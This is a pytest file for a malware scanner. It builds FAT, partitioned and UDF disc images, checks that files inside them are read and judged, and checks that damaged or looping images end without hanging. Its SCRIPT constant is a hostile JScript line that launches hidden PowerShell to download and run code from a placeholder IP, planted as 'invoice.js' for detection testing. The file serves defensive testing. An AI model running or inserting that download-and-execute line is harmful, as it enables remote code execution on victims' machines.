"""Images of discs: what lies in FAT and UDF is found, damaged ones end."""

from __future__ import annotations

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine
from safecare.formats.discs import DiscError, files, holds_files, is_udf, joined

SCRIPT = b'new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c IEX(irm http://203.0.113.5/a)")'
WORDS = b"What was said on the second of March.\r\n" * 20
SECTOR = 2048


def fat(name: bytes, raw: bytes, *, circle: bool = False) -> bytes:
    """Return a volume in FAT 12 with a folder that holds one file with a long name."""
    boot = b"\xeb\x3c\x90MSDOS5.0" + struct.pack("<HBHBHHBH", 512, 1, 1, 1, 16, 720, 0xF0, 2)
    boot = boot.ljust(510, b"\0") + b"\x55\xaa"
    values = [0xFF0, 0xFFF, 0xFFF, 3 if circle else 4, 0xFFF] if len(raw) > 512 else [0xFF0, 0xFFF, 0xFFF, 0xFFF, 0]
    table = b"".join(
        (low | high << 12).to_bytes(3, "little") for low, high in zip(values[::2], [*values[1::2], 0], strict=True)
    )
    long = name.decode().encode("utf-16-le").ljust(26, b"\0")
    part = b"\x41" + long[:10] + b"\x0f\0\0" + long[10:22] + b"\0\0" + long[22:26]
    short = b"A       JS " + b"\x20" + bytes(8) + struct.pack("<HxxxxHI", 0, 3, len(raw))
    folder = b"DIR        " + b"\x10" + bytes(8) + struct.pack("<HxxxxHI", 0, 2, 0)
    data = (part + short).ljust(512, b"\0") + raw
    return (boot + table.ljust(1024, b"\0") + folder.ljust(512, b"\0") + data).ljust(720 * 512, b"\0")


def partitioned(volume: bytes) -> bytes:
    entry = struct.pack("<B3sB3sII", 0, b"\0\0\0", 6, b"\0\0\0", 2, len(volume) // 512)
    return (bytes(446) + entry).ljust(510, b"\0") + b"\x55\xaa" + bytes(512) + volume + b"conectix".ljust(512, b"\0")


def entry(kind: int, raw: bytes) -> bytes:
    head = struct.pack("<H", 261).ljust(27, b"\0") + bytes([kind]) + bytes(6) + b"\3\0"
    return (
        head.ljust(56, b"\0") + struct.pack("<Q", len(raw)).ljust(112, b"\0") + struct.pack("<II", 0, len(raw)) + raw
    ).ljust(SECTOR, b"\0")


def udf(name: bytes, raw: bytes) -> bytes:
    """Return an image in UDF alone with one file."""
    out = bytearray(300 * SECTOR)
    for at, mark in ((16, b"BEA01"), (17, b"NSR02"), (18, b"TEA01")):
        out[at * SECTOR + 1 : at * SECTOR + 6] = mark
    known = b"\x08" + name
    inside = struct.pack("<H", 257).ljust(19, b"\0") + bytes([len(known)]) + struct.pack("<III", SECTOR, 2, 0)
    inside = inside.ljust(38, b"\0") + known
    inside += bytes(-len(inside) % 4)
    pieces = {
        256: struct.pack("<H", 2).ljust(16, b"\0") + struct.pack("<II", 3 * SECTOR, 32),
        32: struct.pack("<H", 5).ljust(188, b"\0") + struct.pack("<I", 270),
        33: struct.pack("<H", 6).ljust(248, b"\0") + struct.pack("<II", SECTOR, 0),
        270: struct.pack("<H", 256).ljust(400, b"\0") + struct.pack("<II", SECTOR, 1),
        271: entry(4, inside),
        272: entry(5, raw),
    }
    for at, data in pieces.items():
        out[at * SECTOR : at * SECTOR + len(data)] = data
    return bytes(out)


IMAGES = {"fat": fat, "partition": lambda name, raw: partitioned(fat(name, raw)), "udf": udf}


@pytest.mark.parametrize("kind", IMAGES)
def test_files_of_an_image_are_read_and_judged(kind: str) -> None:
    attack, honest = IMAGES[kind](b"invoice.js", SCRIPT), IMAGES[kind](b"notes.txt", WORDS)
    [(path, pieces, size)] = files(attack, attack)
    assert isinstance(pieces, bytes | list)
    assert (path.rsplit("/", 1)[-1], joined(attack, pieces, size)) == ("invoice.js", SCRIPT)
    assert holds_files(attack) or is_udf(attack)
    found = Engine().judge(attack, "a.img")
    assert found.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), found
    assert Engine().judge(honest, "a.img").verdict is Verdicts.CLEAN


def test_a_file_that_goes_in_a_circle_ends() -> None:
    with pytest.raises(DiscError, match="circle"):
        list(files((raw := fat(b"a.js", bytes(900), circle=True)), raw))


@given(
    st.sampled_from(sorted(IMAGES)),
    st.lists(st.tuples(st.integers(0, 1 << 20), st.binary(min_size=1, max_size=8)), max_size=6),
)
def test_damaged_images_end(kind: str, changes: list[tuple[int, bytes]]) -> None:
    raw = bytearray(IMAGES[kind](b"a.js", WORDS))
    for at, data in changes:
        place = at % (len(raw) - len(data))
        raw[place : place + len(data)] = data
    try:
        for _, pieces, size in files(bytes(raw), bytes(raw)):
            assert isinstance(pieces, bytes | list)
            joined(bytes(raw), pieces, min(size, len(raw)))
    except DiscError:
        pass
